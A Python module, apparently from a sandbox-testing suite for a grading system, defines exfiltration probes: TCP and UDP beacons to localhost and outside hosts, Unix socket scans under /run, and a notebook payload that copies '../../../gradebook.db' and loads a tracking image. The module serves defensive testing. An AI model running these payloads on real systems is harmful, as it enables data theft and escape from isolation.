"""A5: carrying what was found away: network, feedback, file names."""

from hostile.core import GRAB, LAST, Attack, aside

_TCP = """
import socket
for family, where in ((socket.AF_INET, ("127.0.0.1", int("@PORT@"))), (socket.AF_INET, ("93.184.216.34", 80))):
    try:
        with socket.socket(family) as line:
            line.settimeout(1)
            line.connect(where)
            line.sendall(b"mark-@NAME@")
    except OSError:
        pass
"""
_UDP = """
import socket
for where in (("127.0.0.1", int("@PORT@")), ("8.8.8.8", 53)):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        try:
            line.sendto(b"mark-@NAME@", where)
        except OSError:
            pass
"""
_UNIX = """
import glob, socket
for where in ("\\0@SOCKET@", *glob.glob("/run/**/*.sock", recursive=True)[:20]):
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.settimeout(1)
            line.connect(where)
            line.sendall(b"mark-@NAME@")
    except OSError:
        pass
"""
_MARKUP = (
    GRAB
    + """
from IPython.display import HTML, display
grab("../../../gradebook.db", "@INTO@")
display(HTML("<img src='http://127.0.0.1:@PORT@/mark-@NAME@'>"))
"""
)

ATTACKS = (
    Attack("a05-tcp", 5, "connects to a server on this machine, and far away", aside(_TCP), LAST, stops="no network"),
    Attack("a05-udp", 5, "sends datagrams, as to a name server", aside(_UDP), LAST, stops="no network"),
    Attack(
        "a05-unix",
        5,
        "connects to abstract and other Unix sockets",
        aside(_UNIX),
        LAST,
        stops="a network namespace of its own, and no socket in sight",
    ),
    Attack(
        "a05-picture",
        5,
        "lets whoever opens the feedback load a picture from its server",
        aside(_MARKUP),
        LAST,
        stops="feedback is sanitised and loads nothing",
    ),
)
